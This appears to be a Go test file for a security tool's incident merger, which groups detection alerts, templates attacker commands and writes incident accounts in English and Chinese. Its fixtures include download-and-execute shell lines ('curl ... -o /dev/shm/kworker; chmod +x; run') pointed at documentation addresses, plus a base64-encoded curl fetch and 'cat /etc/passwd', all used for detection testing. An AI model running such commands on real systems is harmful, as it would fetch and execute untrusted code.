package incident

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"

	"baize/internal/alert"
	"baize/internal/event"
	_ "baize/test/rapidseed" // the same cases each time
)

var start = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)

func newMerger() *Merger { return New(DefaultConfig(), NewBaseline(100)) }

// high is an alert that opens an incident.
func high(id, lineage string, entities ...alert.Entity) *alert.Alert {
	return &alert.Alert{ID: id, Time: start, Host: event.Host{ID: "h1"}, Lineage: lineage, Entities: entities, Rule: &alert.Rule{Level: "high", Title: "T"}}
}

func add(m *Merger, a *alert.Alert) string {
	id, _ := m.Add(a, Facts{}, a.Time.UnixNano())
	return id
}

func TestTemplatesTakeOutWhatRotates(t *testing.T) {
	one := commandTemplate("sh -c curl http://203.0.113.9/t -o /dev/shm/kworker; chmod +x /dev/shm/kworker; /dev/shm/kworker")
	two := commandTemplate("sh -c curl http://203.0.113.77:8080/zz -o /dev/shm/databus00000000123; chmod +x /dev/shm/databus00000000123; /dev/shm/databus00000000123")
	if one == "" || one != two {
		t.Errorf("%q and %q", one, two)
	}
	if got := Loose("a /tmp/<tmp> /var/tmp/<tmp> /dev/shm/<tmp>/x"); got != "a <tmp> <tmp> <tmp>/x" {
		t.Errorf("loose: %q", got)
	}
	for _, command := range []string{"id", "uname -a", "cat /etc/passwd", "sh -c whoami", "", "ls -la /home/app/x y"} {
		if got := commandTemplate(command); got != "" {
			t.Errorf("%q says who wrote it: %q", command, got)
		}
	}
	for word, want := range map[string]string{
		"10.0.0.1": placeAddress, "10.0.0.1:80": placeAddress, "203.0.113.9/x": placeURL, "https://x.example/y": placeURL, "1234": placeNumber, "0x17": placeNumber,
		"databus00000000123": placeRandom, "/tmp/a/b": "/tmp/" + placeFile, "/dev/shm/kworker": "/dev/shm/" + placeFile,
		"Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4xMTQvZmlsZS03ID4gL3Zhcg==": placeRandom, "/usr/lib/jvm/java-17-openjdk-amd64/bin/java": "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
		"AbstractSingletonProxyFactoryBean": "AbstractSingletonProxyFactoryBean", "--enable-feature=ThatHasALongName": "--enable-feature=ThatHasALongName", "/usr/bin/curl": "/usr/bin/curl", "internationalization": "internationalization", "2001:db8::1": placeAddress,
	} {
		if got := abstract(word); got != want {
			t.Errorf("abstract(%q) = %q, want %q", word, got, want)
		}
	}
}

// TestNamesOfOneHand: a name in a directory for everybody ties by its shape, and by
// itself where that says too little.
func TestNamesOfOneHand(t *testing.T) {
	for path, want := range map[string]string{
		"/dev/shm/databus00000000abc": "/dev/shm/databus<n>", "/dev/shm/databus17f": "/dev/shm/databus<n>", "/tmp/.session-2.sh": "/tmp/.session-<n>.sh",
		"/tmp/x": "/tmp/x", "/tmp/a17": "/tmp/a17", "/tmp/9f86d081884c7d659a": "/tmp/9f86d081884c7d659a", "/usr/bin/curl": "", "/var/tmp/deep/kept": "/var/tmp/deep/kept",
	} {
		if got := pathTemplate(path); got != want {
			t.Errorf("%s: %q, want %q", path, got, want)
		}
	}
}

func TestTheScoreOfReasons(t *testing.T) {
	of := func(names ...string) (list []found) {
		for _, n := range names {
			list = append(list, found{kind: kindOf(n), weight: kindOf(n).weight})
		}
		return list
	}
	for _, c := range []struct {
		reasons []found
		want    bool
	}{
		{of(ReasonLineage), true},
		{of(ReasonAddress), true},
		{of(ReasonService), false},
		{of(ReasonService, ReasonCommand), true},
		{of(ReasonService, ReasonPath), true},
		{of(ReasonService, ReasonSource), true},
		{of(ReasonService, ReasonContainer), false}, // a container is the place of its service
		{of(ReasonCommand, ReasonPath), false},      // a command names its paths
		{of(ReasonAccount, ReasonSource), false},
		{nil, false},
	} {
		if got := suffices(c.reasons); got != c.want {
			t.Errorf("%v: %v, score %v", c.reasons, got, score(c.reasons))
		}
	}
}

func TestTheOlderIncidentSurvives(t *testing.T) {
	m := newMerger()
	first, second := add(m, high("a", "A")), add(m, high("b", "B"))
	m.Drain(true)
	m.Flow("", "B", "A", "/tmp/x", 0)
	out := m.Drain(true)
	if len(out) != 2 || out[0].ID != second || out[0].MergedInto != first || out[1].ID != first || len(out[1].Alerts) != 2 {
		t.Fatalf("%+v", out)
	}
	if r := out[1].Reasons[0]; r.Reason != ReasonFileFlow || r.Entity != "/tmp/x" {
		t.Errorf("reason %+v", r)
	}
	if chain := m.Explain("a", "b"); len(chain) != 1 {
		t.Errorf("explanation %+v", chain)
	}
}

func TestAFlowKnownBeforeTheAlertsJoinsThem(t *testing.T) {
	m := newMerger()
	m.Flow("", "A", "B", "/tmp/x", 0)
	if a, b := add(m, high("a", "A")), add(m, high("b", "B")); a != b {
		t.Fatalf("incidents %s and %s", a, b)
	}
}

func TestLowAlertsNeverOpenNorTie(t *testing.T) {
	m := newMerger()
	rare := alert.Entity{Type: alert.EntityHash, Value: "sha256:aa"}
	low := high("low", "L", rare)
	low.Rule = &alert.Rule{Level: "low"}
	if id := add(m, low); id != "" {
		t.Fatalf("a low alert opened %s", id)
	}
	if add(m, high("a", "A", rare)) == "" || m.IncidentOf("low") != "" {
		t.Fatal("a low alert was tied by a hash")
	}
	if id := add(m, high("b", "L")); id == "" || m.IncidentOf("low") != id {
		t.Fatal("a low alert did not follow its lineage")
	}
}

func TestOtherOrganisationsNeverJoin(t *testing.T) {
	m := newMerger()
	a, b := high("a", "L"), high("b", "L")
	a.Org, b.Org = "one", "two"
	if add(m, a) == add(m, b) {
		t.Fatal("joined")
	}
}

func TestAFullIncidentTakesLineageAlone(t *testing.T) {
	m := newMerger()
	rare := alert.Entity{Type: alert.EntityHash, Value: "sha256:aa"}
	var last string
	for i := range capAlerts {
		last = add(m, high(fmt.Sprint(i), "L", rare))
	}
	if add(m, high("x", "X", rare)) == last {
		t.Error("a hash joined a full incident")
	}
	if add(m, high("y", "L")) != last {
		t.Error("the lineage did not join a full incident")
	}
}

func TestListsAreBounded(t *testing.T) {
	m := newMerger()
	for i := range 2 * capEntities {
		add(m, high(fmt.Sprint(i), "L", alert.Entity{Type: alert.EntityFile, Value: fmt.Sprintf("h1:/opt/%d", i)}))
	}
	out := m.Drain(true)
	if len(out) != 1 || len(out[0].Entities) != capEntities || len(out[0].Alerts) != 2*capEntities {
		t.Fatalf("%d incidents", len(out))
	}
}

func TestTheForestIsMaximum(t *testing.T) {
	g := &group{}
	g.link(Reason{A: "a", B: "b", Weight: 0.8})
	g.link(Reason{A: "b", B: "c", Weight: 0.9})
	g.improve(Reason{A: "a", B: "c", Weight: 0.85})
	g.improve(Reason{A: "a", B: "b", Weight: 0.5})
	if g.Edges[0].Weight != 0.85 || g.Edges[1].Weight != 0.9 || len(g.Edges) != 2 {
		t.Fatalf("%+v", g.Edges)
	}
}

// TestAccounting draws alerts and checks what always holds: every alert is in
// one incident, the reasons of an incident span its alerts, ids are stable.
func TestAccounting(t *testing.T) {
	rapid.Check(t, func(rt *rapid.T) {
		m := newMerger()
		latest := map[string]Incident{}
		n := rapid.IntRange(1, 60).Draw(rt, "alerts")
		for i := range n {
			a := high(fmt.Sprint(i), rapid.SampledFrom([]string{"", "A", "B", "C", "D"}).Draw(rt, "lineage"),
				alert.Entity{Type: alert.EntityHash, Value: rapid.SampledFrom([]string{"", "sha256:1", "sha256:2"}).Draw(rt, "hash")},
				alert.Entity{Type: alert.EntityIP, Role: RoleSource, Value: rapid.SampledFrom([]string{"", "203.0.113.1", "203.0.113.2"}).Draw(rt, "source")})
			a.Service = rapid.SampledFrom([]string{"", "s1", "s2"}).Draw(rt, "service")
			add(m, a)
			for _, inc := range m.Drain(rapid.Bool().Draw(rt, "all")) {
				latest[inc.ID] = inc
			}
		}
		total := 0
		for id, inc := range latest {
			if inc.MergedInto != "" {
				if latest[inc.MergedInto].Opened.After(inc.Opened) {
					rt.Fatalf("%s was merged into a younger one", id)
				}
				continue
			}
			total += len(inc.Alerts)
			if len(inc.Reasons) != len(inc.Alerts)-1 {
				rt.Fatalf("%d reasons for %d alerts", len(inc.Reasons), len(inc.Alerts))
			}
			for _, a := range inc.Alerts {
				if m.IncidentOf(a) != id || m.Explain(inc.Alerts[0], a) == nil && a != inc.Alerts[0] {
					rt.Fatalf("alert %s is not explained in %s", a, id)
				}
			}
		}
		if total != n {
			rt.Fatalf("%d alerts in incidents, want %d", total, n)
		}
	})
}

func TestWindows(t *testing.T) {
	m := newMerger()
	a, b := high("a", "A", alert.Entity{Type: alert.EntityIP, Value: "203.0.113.1", Role: RoleSource}), high("b", "B", alert.Entity{Type: alert.EntityIP, Value: "203.0.113.1", Role: RoleSource})
	a.Service, b.Service = "s", "s"
	b.Time = start.Add(day + time.Second)
	if add(m, a) == add(m, b) {
		t.Fatal("the same service joined after more than a day")
	}
}

func TestTitleScoreAndAccount(t *testing.T) {
	m := newMerger()
	a := high("a", "A", alert.Entity{Type: alert.EntityIP, Value: "2001:db8::9", Port: 443, Role: "destination"}, alert.Entity{Type: alert.EntityIP, Value: "10.0.0.1", Role: "destination"})
	b := high("b", "A", alert.Entity{Type: alert.EntityCommand, Value: "[kworker/1:0]", Role: RoleTitle})
	b.Host, b.Rule = event.Host{ID: "h2", Name: "two"}, &alert.Rule{Level: "critical", Title: "Masquerade", Tactics: []string{"execution", "defense-evasion"}}
	add(m, a)
	add(m, b)
	inc := m.Drain(true)[0]
	if inc.Title != "Masquerade on two and 1 more host" || inc.Level != "critical" || inc.Score <= 80 || !slices.Equal(inc.Tactics, []string{"defense-evasion", "execution"}) {
		t.Errorf("%+v", inc)
	}
	for _, text := range []string{inc.Account, inc.AccountZH} {
		for _, want := range []string{"[2001:db8::9]:443", "[kworker/1:0]"} {
			if !strings.Contains(text, want) {
				t.Errorf("account lacks %q: %s", want, text)
			}
		}
		if strings.Contains(text, "10.0.0.1") {
			t.Errorf("account names an inside address: %s", text)
		}
	}
}

// TestAnAccountKeepsHostsApart: an earlier sign on another host did not start the
// shell, though its alert knows a service.
func TestAnAccountKeepsHostsApart(t *testing.T) {
	m := newMerger()
	name := alert.Entity{Type: alert.EntityDomain, Value: "k3x9.dnslog.cn"}
	sign := high("a", "A", name)
	sign.Host, sign.Rule.Title = event.Host{ID: "h2", Name: "api-1"}, "Name resolved"
	shell := high("b", "B", name)
	shell.Host, shell.Time = event.Host{ID: "h1", Name: "web-1"}, start.Add(time.Minute)
	m.Add(sign, Facts{Service: "docker.service"}, start.UnixNano())
	m.Add(shell, Facts{Service: "java", Shell: true, Command: "sh -c id"}, shell.Time.UnixNano())
	inc := m.Drain(true)[0]
	for _, want := range []string{
		"The first sign, at 2026-01-02 03:04:05 UTC on api-1: Name resolved.",
		"At 2026-01-02 03:05:05 UTC the service java on web-1 started a shell: sh -c id.", "Hosts: api-1, web-1.",
	} {
		if !strings.Contains(inc.Account, want) {
			t.Errorf("account lacks %q: %s", want, inc.Account)
		}
	}
	for _, want := range []string{"最早迹象:2026-01-02 03:04:05 UTC,主机 api-1:Name resolved。", "主机 web-1 上的服务 java 启动了 shell:sh -c id。", "涉及主机:api-1、web-1。"} {
		if !strings.Contains(inc.AccountZH, want) {
			t.Errorf("account lacks %q: %s", want, inc.AccountZH)
		}
	}
}

func FuzzTemplate(f *testing.F) {
	f.Add("curl http://203.0.113.9/t -o /dev/shm/kworker")
	f.Fuzz(func(t *testing.T, command string) {
		if got := Template(command); len(got) > 2*maxTemplate {
			t.Fatalf("a template of %d bytes", len(got))
		}
		PathTemplate(command)
		Registrable(command)
	})
}
